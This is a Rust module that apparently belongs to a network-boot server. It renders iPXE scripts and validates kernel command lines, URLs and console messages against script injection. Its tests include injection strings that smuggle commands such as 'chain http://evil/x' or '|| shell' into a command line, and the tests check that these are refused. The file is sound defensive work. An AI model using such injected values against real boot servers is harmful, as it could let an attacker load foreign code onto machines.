//! iPXE scripts, rendered as plain text (pure: no I/O).
//!
//! iPXE reads a script line by line, splits each line on whitespace *before* expanding `${...}`
//! settings, and treats three whole tokens as command separators: `||`, `&&` and `;`; a token
//! starting with `#` ends the line. It has no quoting and no escape character. So text that is
//! not ours (profile command lines, image command lines, request facts substituted into them)
//! can only be made safe by refusing what iPXE would interpret: line breaks and other controls,
//! `${` (setting expansion), separator tokens and `#`-tokens. [`KernelCmdline`] enforces exactly
//! that; everything else written into a script is either a constant, a validated base URL, a
//! hex digest, or text passed through [`sanitize_message`].

use std::fmt::{self, Write as _};

use tugboot_firmware::Sha256Digest;

/// Longest kernel command line a rendered script carries (Linux's x86 limit is 2048; arm64 4096).
pub const MAX_CMDLINE_LEN: usize = 4096;
/// Longest base URL accepted.
pub const MAX_BASE_URL_LEN: usize = 512;
/// Longest message text kept by [`sanitize_message`].
pub const MAX_MESSAGE_LEN: usize = 200;

/// Why a command line, URL or script cannot be rendered safely.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum RenderError {
    #[error("command line is {len} bytes, the limit is {limit}")]
    CmdlineTooLong { len: usize, limit: usize },
    #[error("command line contains {what}, which iPXE would interpret: {token:?}")]
    UnsafeToken { what: &'static str, token: String },
    #[error("base URL {url:?} is not usable in a script: {reason}")]
    BaseUrl { url: String, reason: &'static str },
}

/// A kernel command line that iPXE passes through verbatim: printable ASCII tokens joined by
/// single spaces, none of which iPXE would read as syntax. Whitespace runs in the input collapse
/// to one space (iPXE would do the same when it re-joins the arguments).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct KernelCmdline(String);

impl KernelCmdline {
    /// Validates `text`. See the module documentation for what is refused and why.
    pub fn parse(text: &str) -> Result<Self, RenderError> {
        let mut out = KernelCmdline::default();
        out.append(text)?;
        Ok(out)
    }

    /// Appends the tokens of `text` (validated as in [`KernelCmdline::parse`]).
    pub fn append(&mut self, text: &str) -> Result<(), RenderError> {
        if text.len() > MAX_CMDLINE_LEN {
            return Err(RenderError::CmdlineTooLong {
                len: text.len(),
                limit: MAX_CMDLINE_LEN,
            });
        }
        let mut next = self.0.clone();
        for token in text.split([' ', '\t']).filter(|t| !t.is_empty()) {
            check_token(token)?;
            if !next.is_empty() {
                next.push(' ');
            }
            next.push_str(token);
        }
        if next.len() > MAX_CMDLINE_LEN {
            return Err(RenderError::CmdlineTooLong {
                len: next.len(),
                limit: MAX_CMDLINE_LEN,
            });
        }
        self.0 = next;
        Ok(())
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

impl fmt::Display for KernelCmdline {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

fn shown(token: &str) -> String {
    token.chars().take(64).collect()
}

fn check_token(token: &str) -> Result<(), RenderError> {
    let unsafe_token = |what| {
        Err(RenderError::UnsafeToken {
            what,
            token: shown(token),
        })
    };
    if let Some(c) = token.chars().find(|c| !c.is_ascii_graphic()) {
        return if c.is_control() {
            unsafe_token("a control character (line break, tab, ...)")
        } else {
            unsafe_token("a non-ASCII or non-printable character")
        };
    }
    if token.contains("${") {
        return unsafe_token("a setting expansion `${`");
    }
    if token.starts_with('#') {
        return unsafe_token("a comment token `#...`");
    }
    if matches!(token, "||" | "&&" | ";") {
        return unsafe_token("a command separator");
    }
    Ok(())
}

/// The URL prefix every script link starts with, e.g. `http://192.0.2.1:8080` (no trailing
/// slash). Only `http`/`https` with a conservative character set: it is written into scripts.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct BaseUrl(String);

impl BaseUrl {
    pub fn parse(url: &str) -> Result<Self, RenderError> {
        let bad = |reason| {
            Err(RenderError::BaseUrl {
                url: shown(url),
                reason,
            })
        };
        if url.len() > MAX_BASE_URL_LEN {
            return bad("too long");
        }
        let Some(rest) = url
            .strip_prefix("http://")
            .or_else(|| url.strip_prefix("https://"))
        else {
            return bad("must start with http:// or https://");
        };
        let host = rest.split('/').next().unwrap_or_default();
        if host.is_empty() {
            return bad("no host");
        }
        let allowed = |c: char| {
            c.is_ascii_alphanumeric()
                || matches!(c, '.' | '-' | '_' | ':' | '/' | '[' | ']' | '%' | '~')
        };
        if !rest.chars().all(allowed) {
            return bad("only letters, digits and . - _ : / [ ] % ~ are allowed");
        }
        Ok(BaseUrl(url.trim_end_matches('/').to_owned()))
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// `<base>/artifacts/sha256/<hex>`.
    pub fn artifact(&self, digest: &Sha256Digest) -> String {
        format!("{}/artifacts/sha256/{}", self.0, digest.to_hex())
    }

    /// The per-machine script URL with iPXE's own settings filled in by iPXE at run time.
    /// `${serial}` is URI-escaped by iPXE (`:uristring`): SMBIOS serials may contain spaces.
    pub fn chain_url(&self) -> String {
        format!(
            "{}/ipxe?mac=${{mac:hexhyp}}&uuid=${{uuid}}&serial=${{serial:uristring}}&arch=${{buildarch}}",
            self.0
        )
    }
}

impl fmt::Display for BaseUrl {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Makes arbitrary text safe for an `echo` line: printable ASCII only (others become `?`),
/// the characters `$ { } # ; | &` become `_`, length capped. The result never contains a token
/// iPXE would interpret.
pub fn sanitize_message(text: &str) -> String {
    let mut out = String::with_capacity(text.len().min(MAX_MESSAGE_LEN));
    for c in text.chars().take(MAX_MESSAGE_LEN) {
        out.push(match c {
            '$' | '{' | '}' | '#' | ';' | '|' | '&' => '_',
            ' ' => ' ',
            c if c.is_ascii_graphic() => c,
            _ => '?',
        });
    }
    out
}

/// What a boot script loads.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct BootScript<'a> {
    pub kernel: Sha256Digest,
    pub initrd: Option<Sha256Digest>,
    pub cmdline: &'a KernelCmdline,
    /// One line of context for the console (machine, profile, image); sanitized when written.
    pub comment: &'a str,
    /// Seconds to wait before asking again when loading fails.
    pub retry_secs: u32,
}

/// The per-machine boot script: kernel and initrd by digest, then `boot`; on any failure it
/// prints why, waits and asks the server again.
pub fn render_boot(base: &BaseUrl, s: &BootScript<'_>) -> String {
    let mut out = String::with_capacity(512);
    out.push_str("#!ipxe\n");
    let _ = writeln!(out, "echo tugboot: {}", sanitize_message(s.comment));
    let _ = write!(out, "kernel {}", base.artifact(&s.kernel));
    if s.initrd.is_some() {
        out.push_str(" initrd=initrd");
    }
    if !s.cmdline.is_empty() {
        let _ = write!(out, " {}", s.cmdline);
    }
    out.push_str(" || goto failed\n");
    if let Some(initrd) = &s.initrd {
        let _ = writeln!(
            out,
            "initrd --name initrd {} || goto failed",
            base.artifact(initrd)
        );
    }
    out.push_str("boot || goto failed\n");
    out.push_str(":failed\n");
    let _ = writeln!(
        out,
        "echo tugboot: loading the image failed, asking again in {} seconds",
        s.retry_secs
    );
    retry_tail(&mut out, base, s.retry_secs);
    out
}

fn retry_tail(out: &mut String, base: &BaseUrl, retry_secs: u32) {
    let _ = writeln!(out, "sleep {retry_secs}");
    let _ = writeln!(
        out,
        "chain --autofree --replace {} || exit 1",
        base.chain_url()
    );
}

/// The bootstrap (`/boot.ipxe`) and fallback script: make sure the network is up, then chain to
/// the per-machine script URL, which carries the machine's MAC, UUID, serial and architecture.
pub fn render_chain(base: &BaseUrl, retry_secs: u32) -> String {
    let mut out = String::with_capacity(256);
    out.push_str("#!ipxe\n");
    out.push_str("isset ${ip} || dhcp || goto failed\n");
    let _ = writeln!(
        out,
        "chain --autofree --replace {} || goto failed",
        base.chain_url()
    );
    out.push_str(":failed\n");
    let _ = writeln!(
        out,
        "echo tugboot: cannot reach the boot server, retrying in {retry_secs} seconds"
    );
    let _ = writeln!(out, "sleep {retry_secs}");
    out.push_str("dhcp ||\n");
    let _ = writeln!(
        out,
        "chain --autofree --replace {} || exit 1",
        base.chain_url()
    );
    out
}

/// What an error script does after printing the reason.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ErrorAction {
    /// Wait this many seconds, then ask the server again.
    Retry { after_secs: u32 },
    /// Return to the firmware (which tries its next boot device).
    Exit,
}

/// A script that prints why this machine cannot boot from the network, then retries or exits.
pub fn render_error(base: &BaseUrl, reason: &str, action: ErrorAction) -> String {
    let mut out = String::with_capacity(256);
    out.push_str("#!ipxe\n");
    let _ = writeln!(out, "echo tugboot: {}", sanitize_message(reason));
    match action {
        ErrorAction::Retry { after_secs } => {
            let _ = writeln!(out, "echo tugboot: asking again in {after_secs} seconds");
            retry_tail(&mut out, base, after_secs);
        }
        ErrorAction::Exit => {
            out.push_str("echo tugboot: returning to the firmware\n");
            out.push_str("exit 1\n");
        }
    }
    out
}

/// The script of the `local` template: leave iPXE successfully so the firmware boots the next
/// device (normally the local disk).
pub fn render_local(comment: &str) -> String {
    format!(
        "#!ipxe\necho tugboot: {}\necho tugboot: booting from the next boot device\nexit 0\n",
        sanitize_message(comment)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/fixtures/ipxe");

    fn fixture(name: &str) -> String {
        let path = format!("{FIXTURES}/{name}");
        std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
    }

    fn base() -> BaseUrl {
        BaseUrl::parse("http://192.0.2.1:8080/").unwrap()
    }

    #[test]
    fn boot_script_matches_fixture() {
        let cmdline =
            KernelCmdline::parse("console=ttyS0,115200n8  quiet\troot=/dev/ram0").unwrap();
        let script = render_boot(
            &base(),
            &BootScript {
                kernel: Sha256Digest::of(b"kernel"),
                initrd: Some(Sha256Digest::of(b"initrd")),
                cmdline: &cmdline,
                comment: "machine 52-54-00-12-34-56 profile edge image edge-gw v42",
                retry_secs: 10,
            },
        );
        assert_eq!(script, fixture("boot.ipxe"));
    }

    #[test]
    fn boot_script_without_initrd_or_cmdline() {
        let cmdline = KernelCmdline::default();
        let script = render_boot(
            &base(),
            &BootScript {
                kernel: Sha256Digest::of(b"kernel"),
                initrd: None,
                cmdline: &cmdline,
                comment: "x",
                retry_secs: 5,
            },
        );
        assert_eq!(script, fixture("boot-kernel-only.ipxe"));
        assert!(!script.contains("initrd"));
    }

    #[test]
    fn chain_error_local_match_fixtures() {
        assert_eq!(render_chain(&base(), 10), fixture("chain.ipxe"));
        assert_eq!(
            render_error(
                &base(),
                "no profile for mac 52-54-00-12-34-56; ${evil} #x && y",
                ErrorAction::Retry { after_secs: 30 }
            ),
            fixture("error-retry.ipxe")
        );
        assert_eq!(
            render_error(
                &base(),
                "image edge-gw v9 is not published",
                ErrorAction::Exit
            ),
            fixture("error-exit.ipxe")
        );
        assert_eq!(render_local("profile disk"), fixture("local.ipxe"));
    }

    #[test]
    fn cmdline_refuses_ipxe_syntax() {
        let bad = [
            "quiet\nchain http://evil/x",
            "quiet\rboot",
            "root=${root}",
            "a ; chain http://evil",
            "a || shell",
            "a && shell",
            "#comment",
            "x #y",
            "caf\u{e9}",
            "a\u{0}b",
            "a\u{b}b",
        ];
        for text in bad {
            assert!(KernelCmdline::parse(text).is_err(), "{text:?} accepted");
        }
        let ok = KernelCmdline::parse(" a=1   b=\"x\" c=$HOME d=x;y e=a||b f=#1 ").unwrap();
        assert_eq!(ok.as_str(), "a=1 b=\"x\" c=$HOME d=x;y e=a||b f=#1");
        let long = "a".repeat(MAX_CMDLINE_LEN + 1);
        assert!(matches!(
            KernelCmdline::parse(&long),
            Err(RenderError::CmdlineTooLong { .. })
        ));
        let mut c = KernelCmdline::parse(&"a".repeat(MAX_CMDLINE_LEN)).unwrap();
        assert!(c.append("b").is_err());
        assert_eq!(
            c.as_str().len(),
            MAX_CMDLINE_LEN,
            "failed append left it unchanged"
        );
    }

    #[test]
    fn sanitized_messages_have_no_ipxe_syntax() {
        let s = sanitize_message("a\nb ${x} ; || && #c \u{e9}");
        assert_eq!(s, "a?b __x_ _ __ __ _c ?");
        for token in s.split(' ') {
            assert!(check_token(token).is_ok() || token.is_empty(), "{token:?}");
        }
        assert_eq!(sanitize_message(&"x".repeat(1000)).len(), MAX_MESSAGE_LEN);
    }

    #[test]
    fn base_url_rules() {
        assert_eq!(base().as_str(), "http://192.0.2.1:8080");
        assert_eq!(
            BaseUrl::parse("https://[2001:db8::1]:8443/boot")
                .unwrap()
                .as_str(),
            "https://[2001:db8::1]:8443/boot"
        );
        for bad in [
            "ftp://x",
            "http://",
            "http:///x",
            "http://a b",
            "http://x/${y}",
            "http://x/#y",
            "http://x/?a=b",
            "http://x\n",
        ] {
            assert!(BaseUrl::parse(bad).is_err(), "{bad:?} accepted");
        }
    }
}
